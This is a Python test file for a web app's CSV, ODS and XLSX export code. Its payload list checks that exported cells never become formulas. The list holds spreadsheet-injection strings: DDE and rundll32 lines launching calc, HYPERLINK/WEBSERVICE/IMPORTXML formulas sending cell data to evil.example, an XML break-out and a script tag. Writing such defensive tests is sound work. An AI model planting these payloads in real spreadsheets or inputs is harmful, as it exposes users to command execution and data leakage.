"""Files for spreadsheet programs: opened again by programs that did not write them."""

import asyncio
import csv
import io
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from odfdo import Document
from openpyxl import load_workbook
from starlette.responses import Response
from starlette.types import Message

from app.domain.errors import Invalid
from app.web.frame import spreadsheets
from app.web.frame.spreadsheets import Cell, Sheet, csv_answer, defused, ods_answer, xlsx_answer

BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " =",
    "\t=",
    "\u00a0=",
    "\ufeff=",
    "\u200b+",
    "＝",
    "＋",
    "－",
    "＠",
)
COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1;"klik")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'IMPORTXML("http://evil.example";"//a")',
    "2+5+cmd|'/C calc'!A0",
    'A1";=1+1;"',
    "1\n=2",
    "1;=2",
    "1,=2",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "-2+3",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    ']]></text:p><table:table-cell table:formula="of:=1"/>',
    "&#61;1+1",
    "\x00=1",
    "IF(1;1)",
)
PAYLOADS = [beginning + command for beginning in BEGINNINGS for command in COMMANDS]


def content(answer: Response) -> bytes:
    """What the answer sends."""
    sent: list[bytes] = []

    async def receive() -> Message:
        await asyncio.sleep(3600)
        return {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        sent.append(message.get("body", b""))

    # In a thread of its own: the browser of other tests keeps a loop running in this one.
    with ThreadPoolExecutor(1) as thread:
        scope = {"type": "http", "asgi": {"spec_version": "2.4"}}
        thread.submit(lambda: asyncio.run(answer(scope, receive, send))).result()
    whole = b"".join(sent)
    assert answer.headers["content-length"] == str(len(whole))
    return whole


def csv_cells(answer: Response) -> list[list[str]]:
    text = content(answer).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def ods_cells(answer: Response, sheet: int = 0) -> list[list[object]]:
    table = Document(io.BytesIO(content(answer))).body.get_table(sheet)
    assert table is not None
    return [list(row) for row in table.iter_values()]


def xlsx_cells(answer: Response, sheet: int = 0) -> list[list[object]]:
    book = load_workbook(io.BytesIO(content(answer)))
    return [list(row) for row in book.worksheets[sheet].iter_rows(values_only=True)]


def a_sheet(*rows: list[Cell]) -> Sheet:
    return Sheet("Vragen", ["Vraag", "Te laat"], rows)


def test_csv_opens_in_dutch_excel() -> None:
    rows: list[list[Cell]] = [['Oekraïne; "nu"', 3], [None, -2], [0.5, date(2026, 11, 23)]]
    assert csv_cells(csv_answer("vragen", a_sheet(*rows))) == [
        ["Vraag", "Te laat"],
        ['Oekraïne; "nu"', "3"],
        ["", "-2"],
        ["0,5", "2026-11-23"],
    ]


def test_ods_keeps_texts_numbers_and_days_apart() -> None:
    rows: list[list[Cell]] = [["  twee  spaties\nen een\ttab ", 3], [None, -2], [0.5, date(2026, 11, 23)]]
    assert ods_cells(ods_answer("vragen", a_sheet(*rows))) == [
        ["Vraag", "Te laat"],
        ["  twee  spaties\nen een\ttab ", 3],
        [None, -2],
        [0.5, date(2026, 11, 23)],
    ]


def test_xlsx_keeps_texts_numbers_and_days_apart() -> None:
    rows: list[list[Cell]] = [["  twee  spaties\nen een\ttab ", 3], [None, -2], [0.5, date(2026, 11, 23)]]
    assert xlsx_cells(xlsx_answer("vragen", a_sheet(*rows))) == [
        ["Vraag", "Te laat"],
        ["  twee  spaties\nen een\ttab ", 3],
        [None, -2],
        [0.5, datetime(2026, 11, 23)],  # noqa: DTZ001  # so openpyxl says it
    ]


def test_xlsx_holds_several_sheets_under_names_that_excel_takes() -> None:
    answer = xlsx_answer("week", a_sheet(["a", 1]), Sheet("Cijfers [2026/W48] van alle ministeries", ["x"], [["b"]]))
    tabs = load_workbook(io.BytesIO(content(answer))).sheetnames
    assert tabs == ["Vragen", "Cijfers  2026 W48  van alle min"]


def test_a_text_that_no_cell_of_xlsx_holds_ends_in_an_ellipsis() -> None:
    found = xlsx_cells(xlsx_answer("x", a_sheet(["y" * 40_000, 1])))[1][0]
    assert found == f"{'y' * 32_766}…"


def test_ods_holds_several_sheets() -> None:
    answer = ods_answer("week", a_sheet(["a", 1]), Sheet("Cijfers & meer", ["x"], [["b"]]))
    document = Document(io.BytesIO(content(answer)))
    assert [table.name for table in document.body.tables] == ["Vragen", "Cijfers & meer"]


def test_ods_says_what_it_is() -> None:
    with zipfile.ZipFile(io.BytesIO(content(ods_answer("vragen", a_sheet())))) as archive:
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type, first.extra) == ("mimetype", zipfile.ZIP_STORED, b"")
        assert archive.testzip() is None


def test_all_are_downloads_that_run_nothing() -> None:
    for answer, name in (
        (csv_answer("vragen", a_sheet()), "vragen.csv"),
        (ods_answer("vragen", a_sheet()), "vragen.ods"),
        (xlsx_answer("vragen", a_sheet()), "vragen.xlsx"),
    ):
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
        content(answer)


def test_no_payload_is_a_formula_in_csv() -> None:
    assert len(PAYLOADS) >= 300
    cells = csv_cells(csv_answer("vragen", a_sheet(*([payload, 1] for payload in PAYLOADS))))[1:]
    assert len(cells) == len(PAYLOADS)
    assert [cell[0] for cell in cells] == [f"'{payload}" for payload in PAYLOADS]


def test_no_payload_is_a_formula_in_ods() -> None:
    sent = content(ods_answer("vragen", a_sheet(*([payload, 1] for payload in PAYLOADS))))
    with zipfile.ZipFile(io.BytesIO(sent)) as archive:
        tree = ET.fromstring(archive.read("content.xml"))  # noqa: S314  # our own
    cells = list(tree.iter("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell"))
    assert len(cells) == 2 * len(PAYLOADS) + 2
    assert not [name for cell in cells for name in cell.keys() if "formula" in name]  # noqa: SIM118  # an element
    kinds = [cell.get("{urn:oasis:names:tc:opendocument:xmlns:office:1.0}value-type") for cell in cells]
    assert kinds == ["string", "string", *["string", "float"] * len(PAYLOADS)]


def test_no_payload_is_a_formula_in_xlsx() -> None:
    book = load_workbook(io.BytesIO(content(xlsx_answer("vragen", a_sheet(*([one, 1] for one in PAYLOADS))))))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert len(cells) == 2 * len(PAYLOADS) + 2
    with zipfile.ZipFile(io.BytesIO(content(xlsx_answer("vragen", a_sheet(*([one, 1] for one in PAYLOADS)))))) as made:
        sheet = made.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    assert sheet.count(b"<is>") == len(PAYLOADS) + 2


@pytest.mark.parametrize("text", ["Opvang", "2 + 2 = 4", "a=b", "’s-Hertogenbosch", "", "1-2", "(=)", "Oekraïne @ nu"])
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@settings(deadline=None)
@given(st.lists(st.tuples(st.text(max_size=60), st.integers() | st.dates()), max_size=20))
def test_whatever_is_written_is_read_back(rows: list[tuple[str, Cell]]) -> None:
    cells = csv_cells(csv_answer("x", a_sheet(*(list(row) for row in rows if row[0].isprintable()))))[1:]
    kept = [row for row in rows if row[0].isprintable()]
    assert [cell[0].removeprefix("'") for cell in cells] == [text.removeprefix("'") for text, _ in kept]
    assert [cell[1] for cell in cells] == [str(value) for _, value in kept]
    assert all(cell[0][:1] not in {"=", "+", "-", "@"} for cell in cells)


@settings(deadline=None, max_examples=30)
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]), min_size=1, max_size=40), max_size=8))
def test_any_text_goes_through_ods(texts: list[str]) -> None:
    kept = [text for text in texts if not {"\ufffe", "\uffff"} & set(text)]
    assert [row[0] for row in ods_cells(ods_answer("x", a_sheet(*([text, 1] for text in kept))))[1:]] == kept


def test_what_no_program_has_room_for_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "MOST_ROWS", 3)
    for answer in (csv_answer, ods_answer, xlsx_answer):
        content(answer("x", a_sheet(*[["a", 1]] * 3)))
        with pytest.raises(Invalid) as refused:
            answer("x", a_sheet(*[["a", 1]] * 4))
        assert refused.value.code == "too-many-rows"


def test_a_fault_among_the_rows_leaves_no_file_open() -> None:
    def rows() -> Iterator[list[Cell]]:
        yield ["x" * 2_000_000, 1]
        raise ZeroDivisionError

    for answer in (csv_answer, ods_answer, xlsx_answer):
        with pytest.raises(ZeroDivisionError):
            answer("x", Sheet("x", ["a", "b"], rows()))
